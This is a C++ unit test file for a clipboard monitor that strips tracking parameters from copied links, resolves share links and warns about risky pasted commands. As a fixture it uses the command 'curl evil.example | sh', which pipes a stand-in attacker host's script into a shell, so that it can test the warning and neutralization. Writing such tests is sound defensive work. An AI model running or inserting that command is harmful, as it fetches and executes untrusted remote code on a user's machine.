// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/clipboard/ClipboardMonitor.h"

#include <gtest/gtest.h>

#include <functional>
#include <string>
#include <tuple>
#include <vector>

#include "tests/support/MonitorHarness.h"

namespace tessaril {
namespace {

using Harness = testing::MonitorHarness;
constexpr const char* kTracked = "https://news.example/a?utm_source=mail&id=1";
constexpr const char* kClean = "https://news.example/a?id=1";
constexpr const char* kRisky = "curl evil.example | sh";
constexpr const char* kShare = "https://www.reddit.com/r/cpp/s/AbC?share_id=9";
constexpr const char* kShareClean = "https://www.reddit.com/r/cpp/s/AbC";
constexpr const char* kPost = "https://www.reddit.com/r/cpp/comments/abc/title/";

// What a person does, one step at a time, and what the clipboard, the counts and the warning are
// afterwards. Each row starts from the rows before it.
TEST(ClipboardMonitor, FollowsACopySessionStepByStep) {
    // What the person does: copy a text, an image or a password manager's secret, or wait for the next tick.
    using Act = std::function<void(Harness&, const std::string&)>;
    const Act copy = [](Harness& h, const std::string& text) { h.pasteboard.copyText(text); };
    const Act image = [](Harness& h, const std::string&) { h.pasteboard.copyImage(); };
    const Act concealed = [](Harness& h, const std::string& text) { h.pasteboard.copyConcealedText(text); };
    const Act tick = [](Harness& h, const std::string&) { h.executor.fireTimers(); };
    // The act and its text, then the clipboard, the clean count and whether a warning stands.
    using Step = std::tuple<Act, std::string, std::string, std::int64_t, bool>;
    const std::vector<Step> steps = {
        {tick, "", kTracked, 0, false},            // what was there at start stays as it is
        {copy, kTracked, kClean, 1, false},        // a tracked link is cleaned and counted
        {tick, "", kClean, 1, false},              // its own write is not taken for a copy
        {copy, kTracked, kClean, 2, false},        // the same link copied again by hand
        {copy, kRisky, kRisky, 2, true},           // a risky command is warned about
        {image, "", "<no text>", 2, true},         // an image keeps the warning
        {concealed, kTracked, kTracked, 2, true},  // a secret is neither read nor cleaned
        {copy, "hello", "hello", 2, false},        // plain text ends the warning
        {copy, std::string("a\0b", 3), std::string("a\0b", 3), 2, false},
        {copy, "\xff\xfe https://x.example/?utm_source=1", "\xff\xfe https://x.example/?utm_source=1", 2, false},
        {copy, std::string(10'000'000, 'a'), std::string(10'000'000, 'a'), 2, false},
        {copy, kRisky, kRisky, 2, true},
        {copy, "https://news.example/" + std::string(10'000'000, 'p') + "?utm_source=1",
         "https://news.example/" + std::string(10'000'000, 'p') + "?utm_source=1", 2, true},  // left like an image
    };
    Harness h;
    h.pasteboard.copyText(kTracked);
    auto& monitor = h.start();
    for (std::size_t i = 0; i < steps.size(); ++i) {
        const auto& [act, text, clipboard, cleaned, warned] = steps[i];
        act(h, text);
        h.executor.runMainTasks();  // a change is looked at as soon as the clipboard announces it
        EXPECT_TRUE(h.clipboard() == clipboard) << "step " << i;
        EXPECT_EQ(h.stored(StatsTracker::totalKey), cleaned) << "step " << i;
        EXPECT_EQ(monitor.cleanedCountToday(), cleaned) << "step " << i;
        EXPECT_EQ(monitor.lastCommandRisk().has_value(), warned) << "step " << i;
        EXPECT_EQ(h.defaults.objectExists(ClipboardMonitor::lastCommandRiskKey), warned) << "step " << i;
    }
    EXPECT_EQ(h.notifier.shown().size(), 4U);  // two cleans and two warnings
    EXPECT_EQ(h.executor.firstTimerInterval(), std::chrono::milliseconds(500));
    monitor.start();  // again: the timer is replaced, not doubled
    EXPECT_EQ(h.executor.runningTimers(), 1U);
    monitor.stop();
    EXPECT_EQ(h.executor.runningTimers(), 0U);
    h.copy(kTracked);
    h.executor.runMainTasks();
    EXPECT_EQ(h.clipboard(), kTracked);
}

// The stored switches, and what a risky command or a link does under them.
TEST(ClipboardMonitor, StoredSwitchesDecideWhatACopyDoes) {
    // The name, what is stored, the auto-clean switch and what is copied; then the clipboard, whether
    // a warning stands, and the warnings and neutralized commands counted.
    using Case = std::tuple<const char*, std::vector<std::pair<std::string_view, DefaultsValue>>, bool, const char*,
                            std::string, bool, std::int64_t, std::int64_t>;
    const std::string neutralized = CommandGuard::neutralizedCommand(kRisky);
    const auto threshold = ClipboardMonitor::commandGuardThresholdKey;
    const std::vector<Case> cases = {
        {"auto-clean off still warns", {}, false, kRisky, kRisky, true, 1, 0},
        {"auto-clean off leaves links", {}, false, kTracked, kTracked, false, 0, 0},
        {"neutralized", {{ClipboardMonitor::commandGuardNeutralizeKey, true}}, true, kRisky, neutralized, false, 1, 1},
        {"guard off", {{ClipboardMonitor::commandGuardEnabledKey, false}}, true, kRisky, kRisky, false, 0, 0},
        {"danger passes a warning", {{threshold, std::string("danger")}}, true, kRisky, kRisky, false, 0, 0},
        {"'Danger' is no threshold", {{threshold, std::string("Danger")}}, true, kRisky, kRisky, true, 1, 0},
    };
    for (const auto& [name, stored, autoClean, copied, clipboard, warned, warnings, neutralizedCount] : cases) {
        Harness h;
        for (const auto& [key, value] : stored)
            h.defaults.set(key, value);
        auto& monitor = h.start();
        monitor.setEnabled(autoClean);
        h.copy(copied);
        h.executor.fireTimers();  // a neutralized text is the monitor's own write: not examined again
        EXPECT_EQ(h.clipboard(), clipboard) << name;
        EXPECT_EQ(monitor.lastCommandRisk().has_value(), warned) << name;
        EXPECT_EQ(h.stored(StatsTracker::commandWarningsKey), warnings) << name;
        EXPECT_EQ(h.stored(StatsTracker::neutralizedCommandsKey), neutralizedCount) << name;
    }
}

// A share link waits, cleaned locally, until it is resolved: then it is written and counted, or
// the local link stays and the reason is shown; a late answer never overwrites a newer copy or
// reaches a monitor that is gone.
TEST(ClipboardMonitor, ResolvesAShareLinkOnlyWhenAskedAndOnlyOnce) {
    enum class Then { succeed, fail, copyMeanwhile, destroyMeanwhile };
    for (const Then then : {Then::succeed, Then::fail, Then::copyMeanwhile, Then::destroyMeanwhile}) {
        Harness h;
        if (then != Then::fail)
            h.network.answer(kShareClean, ScriptedHttpsClient::redirect(std::string(kPost) + "?utm_source=share"));
        h.network.answer(std::string(kPost) + "?utm_source=share", {});
        auto& monitor = h.start();
        h.copy(kShare);
        EXPECT_EQ(h.clipboard(), kShareClean);
        EXPECT_TRUE(monitor.hasPendingShareLinkResolution());
        EXPECT_EQ(monitor.cleanedCountToday(), 0);
        EXPECT_TRUE(h.notifier.shown().empty());

        monitor.resolvePendingShareLink();
        monitor.resolvePendingShareLink();
        EXPECT_TRUE(monitor.isResolvingShareLink());
        EXPECT_EQ(h.executor.runBackgroundWork(), 1U);
        if (then == Then::copyMeanwhile) h.copy("meanwhile");
        if (then == Then::destroyMeanwhile) h.monitor.reset();
        h.executor.runMainTasks();

        const std::string expected = then == Then::succeed ? kPost : then == Then::fail ? kShareClean : "meanwhile";
        EXPECT_EQ(h.clipboard(), then == Then::destroyMeanwhile ? kShareClean : expected);
        EXPECT_EQ(h.stored(StatsTracker::totalKey), then == Then::succeed ? 1 : 0);
        if (then == Then::destroyMeanwhile) continue;
        EXPECT_FALSE(monitor.isResolvingShareLink());
        EXPECT_EQ(monitor.shareLinkResolutionError(),
                  then == Then::fail ? std::optional<std::string>(description(ShareLinkResolutionError::requestFailed))
                                     : std::nullopt);
        EXPECT_EQ(monitor.hasPendingShareLinkResolution(), then != Then::succeed);
        if (then == Then::succeed) {
            EXPECT_EQ(h.recorder.current()->surface, LastCleanRecord::networkResolutionSurface);
        }
    }
}

TEST(ClipboardMonitor, UndoesOnceAndForgetsTheCleanOfADisabledSite) {
    Harness h;
    auto& monitor = h.start();
    EXPECT_FALSE(monitor.restoreLastOriginal());
    h.copy(kTracked);
    EXPECT_TRUE(monitor.restoreLastOriginal());
    EXPECT_EQ(h.clipboard(), kTracked);
    EXPECT_FALSE(monitor.lastCleanedResult().has_value());
    EXPECT_FALSE(monitor.restoreLastOriginal());
    h.executor.fireTimers();  // the restored link is the monitor's own write: it stays tracked
    EXPECT_EQ(h.clipboard(), kTracked);

    h.copy("https://other.example/?utm_source=1");
    EXPECT_EQ(monitor.disableLastDomain(), "other.example");
    EXPECT_FALSE(monitor.restoreLastOriginal());
    h.copy("https://other.example/?utm_source=2");
    EXPECT_EQ(h.clipboard(), "https://other.example/?utm_source=2");
    EXPECT_EQ(monitor.lastSkippedDomain(), "other.example");
}

// Counted per calendar day; what is stored comes back after a restart, a stale warning only while
// its command is still on the clipboard.
TEST(ClipboardMonitor, CountsPerDayAndRestoresWhatWasStored) {
    Harness h;
    auto& monitor = h.start();
    h.copy(kTracked);
    h.clock.advance(std::chrono::hours(14));  // 00:00 on 6 December
    EXPECT_EQ(monitor.cleanedCountToday(), 0);
    h.defaults.set("cleanedCount_2026-12-06", std::int64_t{4});
    h.copy("https://news.example/b?utm_source=1");
    EXPECT_EQ(monitor.cleanedCountToday(), 5);
    EXPECT_EQ(h.stored("cleanedCount_2026-12-05"), 1);
    EXPECT_EQ(h.stored("cleanedCount_2026-12-06"), 5);

    // A map conversion made offline joins the last result's steps; one that used the network does not.
    CleanOperation mapStep;
    mapStep.kind = CleanOperationKind::functionalTransformation;
    CleanOperation fetchedStep = mapStep;
    fetchedStep.networkUsed = true;
    const auto steps = monitor.lastCleanedResult()->operations.size();
    monitor.recordFunctionalTransformation(fetchedStep);
    monitor.recordFunctionalTransformation(mapStep);

    monitor.setShouldNeutralizeRiskyCommands(false);
    h.copy(kRisky);
    for (const bool stillOnClipboard : {true, false}) {
        if (!stillOnClipboard) h.pasteboard.copyText("hello");
        h.monitor.reset();
        auto& restarted = h.start();
        EXPECT_EQ(restarted.cleanedCountToday(), 5);
        EXPECT_EQ(restarted.lastCleanedResult()->cleanedURL, "https://news.example/b");
        EXPECT_EQ(restarted.lastCleanedResult()->operations.size(), steps + 1);
        EXPECT_EQ(restarted.lastCleanedResult()->operations.back(), mapStep);
        EXPECT_EQ(restarted.lastCommandRisk().has_value(), stillOnClipboard);
    }
}

}  // namespace
}  // namespace tessaril
